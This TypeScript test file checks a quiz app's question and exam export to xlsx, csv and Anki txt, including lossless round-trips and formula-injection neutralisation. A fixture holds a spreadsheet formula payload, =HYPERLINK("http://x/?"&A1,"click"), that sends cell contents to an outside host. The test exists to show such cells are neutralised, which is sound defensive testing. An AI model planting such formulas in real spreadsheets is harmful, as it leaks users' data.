import { parse } from 'csv-parse/sync';
import * as XLSX from 'xlsx';
import { beforeAll, describe, expect, inject, it } from 'vitest';
import { fixtureUser, type FixtureUser } from '../support/fixture-users.js';
import { itemsOwnedBy } from '../support/exam-store.js';
import { createExam } from '../support/exam-fixtures.js';
import { multipartForm, xlsxBytes } from '../support/sheets.js';

/*
 * Export so learners are never locked in: a question file and an exam download as
 * .xlsx, .csv and Anki-ready .txt, and re-importing a download gives the same questions —
 * content, answer, choices (six of them: more than the four most sheets have), explanation — in
 * Korean and in English content.
 */

const apiUrl = inject('apiUrl');
Object.assign(process.env, inject('cloudEnv'));

const FORMATS = ['xlsx', 'csv', 'txt'] as const;
const FIELDS = ['csv_id', 'title', 'content', 'answer', 'explanation', 'difficulty', 'url', 'group_id'] as const;

async function upload(user: FixtureUser, name: string, bytes: Buffer) {
  const res = await user.client.request('POST', '/api/upload-questions/', {
    body: multipartForm({ is_public: 'false' }, { name, bytes }),
  });
  const body = (await res.json()) as Record<string, any>;
  expect(res.status, JSON.stringify(body)).toBe(200);
  return body.file as { id: string; name: string };
}

/** The questions of a file as a learner sees them, in the uploader's language fields. */
async function questionsOf(user: FixtureUser, fileId: string) {
  const lang = user.language;
  return (await itemsOwnedBy(user.id))
    .filter((i) => i.type === 'QUESTION' && i.file_id === fileId)
    .sort((a, b) => Number(a.order) - Number(b.order))
    .map((q) =>
      Object.fromEntries(
        FIELDS.map((f) => [
          f,
          String((['title', 'content', 'answer', 'explanation'].includes(f) ? q[`${f}_${lang}`] : q[f]) ?? ''),
        ]),
      ),
    );
}

const SOURCES = {
  ko: [
    [
      '문제id',
      '제목',
      '문제',
      '정답',
      '해설',
      '난이도',
      'URL',
      '그룹ID',
      '보기1',
      '보기2',
      '보기3',
      '보기4',
      '보기5',
      '보기6',
    ],
    [
      '1',
      '수도',
      '대한민국의 수도는?',
      '서울',
      '서울특별시, "특별"한 도시',
      '쉬움',
      'https://example.com/a',
      'g1',
      '부산',
      '서울',
      '대구',
      '인천',
      '광주',
      '대전',
    ],
    ['2', '', '여러 줄\n문제\t탭 포함', 'KIA 타이거즈|기아', '', '어려움', '', '', '', '', '', '', '', ''],
    ['', '', '=1+1 은?', '2', '수식처럼 보이는 문제', '', '', 'g2', '', '', '', '', '', ''],
  ],
  en: [
    [
      'Question ID',
      'Title',
      'Question',
      'Answer',
      'Explanation',
      'Difficulty',
      'URL',
      'Group ID',
      'Option 1',
      'Option 2',
      'Option 3',
      'Option 4',
      'Option 5',
      'Option 6',
    ],
    [
      '10',
      'Capital',
      'Which is the capital of France?',
      'F',
      'Paris, "the city of light"',
      'Easy',
      '',
      'g1',
      'Berlin',
      'Madrid',
      'Rome',
      'Vienna',
      'Lisbon',
      'Paris',
    ],
    [
      '11',
      '',
      'Two lines\nand a\ttab',
      'a, b',
      'note; with semicolon',
      'Hard',
      'https://example.com/b',
      '',
      '',
      '',
      '',
      '',
      '',
      '',
    ],
    ['12', 'Zero', '007', '0012', '', 'Medium', '', '', '', '', '', '', '', ''],
  ],
};

describe('question export: download and re-import gives the same questions', () => {
  let users: Record<'ko' | 'en', FixtureUser>;
  beforeAll(async () => {
    users = {
      ko: await fixtureUser(apiUrl, { language: 'ko' }),
      en: await fixtureUser(apiUrl, { language: 'en' }),
    };
  });

  describe.each(['ko', 'en'] as const)('%s content', (lang) => {
    it('keeps six choices as choices, the answer as the choice number', async () => {
      const user = users[lang];
      const file = await upload(user, `choices-${lang}.xlsx`, xlsxBytes(SOURCES[lang]));
      const [first] = await questionsOf(user, file.id);
      expect(first!.content!.split('\n')).toHaveLength(7);
      expect(first!.content).toMatch(/\n6\) /);
      expect(first!.answer).toBe(lang === 'ko' ? '2' : '6');
    });

    it.each(FORMATS)('a question file as .%s', async (format) => {
      const user = users[lang];
      const file = await upload(user, `source-${lang}-${format}.xlsx`, xlsxBytes(SOURCES[lang]));
      const original = await questionsOf(user, file.id);
      const res = await user.client.get(`/api/question-files/${file.id}/export/?format=${format}`);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-disposition')).toContain(`.${format}`);
      const bytes = Buffer.from(await res.arrayBuffer());
      if (format === 'txt') expect(bytes.toString('utf8')).toMatch(/^#separator:tab\n#html:false\n#columns:/);
      const again = await upload(user, `again-${lang}.${format}`, bytes);
      expect(await questionsOf(user, again.id)).toEqual(original);
    });

    it.each(FORMATS)('an exam as .%s', async (format) => {
      const user = users[lang];
      const file = await upload(user, `exam-source-${lang}-${format}.xlsx`, xlsxBytes(SOURCES[lang]));
      const original = await questionsOf(user, file.id);
      const exam = await createExam(user, {
        title: `export ${lang} ${format} ${Date.now()}`,
        question_count: 3,
        file_id: file.id,
      });
      const res = await user.client.get(`/api/exam/${exam.id}/export/?format=${format}`);
      expect(res.status).toBe(200);
      const again = await upload(user, `exam-again-${lang}.${format}`, Buffer.from(await res.arrayBuffer()));
      const byId = (rows: Record<string, string>[]) => [...rows].sort((a, b) => a.csv_id!.localeCompare(b.csv_id!));
      expect(byId(await questionsOf(user, again.id))).toEqual(byId(original));
    });
  });

  it('answers 404 for what the caller may not read, 400 for an unknown format', async () => {
    const owner = users.ko;
    const other = await fixtureUser(apiUrl, { language: 'en' });
    const file = await upload(owner, 'private-export.csv', Buffer.from('question,answer\nq,a\n'));
    expect((await other.client.get(`/api/question-files/${file.id}/export/?format=csv`)).status).toBe(404);
    const bad = await owner.client.get(`/api/question-files/${file.id}/export/?format=pdf`);
    expect(bad.status).toBe(400);
    expect((await owner.client.get(`/api/question-files/${file.id}/export/`)).headers.get('content-type')).toContain(
      'spreadsheetml',
    );
    const exam = await createExam(owner, {
      title: `private export ${Date.now()}`,
      question_count: 1,
      file_id: file.id,
      is_public: false,
    });
    expect((await other.client.get(`/api/exam/${exam.id}/export/?format=txt`)).status).toBe(404);
    expect((await other.client.get('/api/exam/nope/export/')).status).toBe(404);
  });
});

describe('question export: formula-like cells are neutralised in .csv and .txt, and come back as they were', () => {
  const HOSTILE_ROWS = [
    ['question', 'answer', 'explanation', 'group_id'],
    ['=HYPERLINK("http://x/?"&A1,"click")', '+1', '@SUM(A1:A2)', '-2'],
    ['\'=already quoted, "really"', "'", '한글, "따옴표"\n두 줄', 'g'],
    ['plain 질문', '-', '=1+1', ''],
  ];
  const FORMULA_START = /^[=+\-@\t\r]/;

  /** The cells of a text export as written, quotes undone but nothing else (what a spreadsheet program reads). */
  function writtenCells(text: string, format: 'csv' | 'txt'): string[][] {
    const body = format === 'txt' ? text.replace(/^(#[^\n]*\n)+/, '') : text.replace(/^\uFEFF/, '');
    return parse(body, { delimiter: format === 'csv' ? ',' : '\t', relax_column_count: true }) as string[][];
  }

  it.each(['csv', 'txt'] as const)('a question file and an exam as .%s', async (format) => {
    const user = await fixtureUser(apiUrl, { language: 'en' });
    const file = await upload(user, `hostile-${format}.xlsx`, xlsxBytes(HOSTILE_ROWS));
    const original = await questionsOf(user, file.id);
    expect(original.map((q) => q.content)).toEqual(HOSTILE_ROWS.slice(1).map((r) => r[0]));
    const exam = await createExam(user, {
      title: `hostile ${format} ${Date.now()}`,
      question_count: 3,
      file_id: file.id,
    });
    for (const path of [`/api/question-files/${file.id}/export/`, `/api/exam/${exam.id}/export/`]) {
      const res = await user.client.get(`${path}?format=${format}`);
      expect(res.status).toBe(200);
      const bytes = Buffer.from(await res.arrayBuffer());
      const cells = writtenCells(bytes.toString('utf8'), format);
      expect(cells.flat().filter((c) => FORMULA_START.test(c))).toEqual([]);
      expect(cells.flat()).toContain(`'=HYPERLINK("http://x/?"&A1,"click")`);
      expect(cells.flat()).toContain(`''=already quoted, "really"`);
      // Every cell is quoted in the bytes.
      expect(bytes.toString('utf8')).toContain(`"'=HYPERLINK(""http://x/?""&A1,""click"")"`);
      const again = await upload(user, `hostile-again.${format}`, bytes);
      const byContent = (rows: Record<string, string>[]) =>
        [...rows].sort((a, b) => a.content!.localeCompare(b.content!));
      expect(byContent(await questionsOf(user, again.id))).toEqual(byContent(original));
    }
  });

  it('.xlsx writes them as string cells, never formulas', async () => {
    const user = await fixtureUser(apiUrl, { language: 'ko' });
    const file = await upload(user, 'hostile.xlsx', xlsxBytes(HOSTILE_ROWS));
    const res = await user.client.get(`/api/question-files/${file.id}/export/?format=xlsx`);
    const book = XLSX.read(Buffer.from(await res.arrayBuffer()), { type: 'buffer', cellFormula: true });
    const sheet = book.Sheets[book.SheetNames[0]!]!;
    const cells = Object.entries(sheet).filter(([address]) => !address.startsWith('!'));
    expect(cells.filter(([, c]) => (c as XLSX.CellObject).f !== undefined)).toEqual([]);
    expect(sheet.A2).toMatchObject({ t: 's', v: '=HYPERLINK("http://x/?"&A1,"click")' });
  });
});
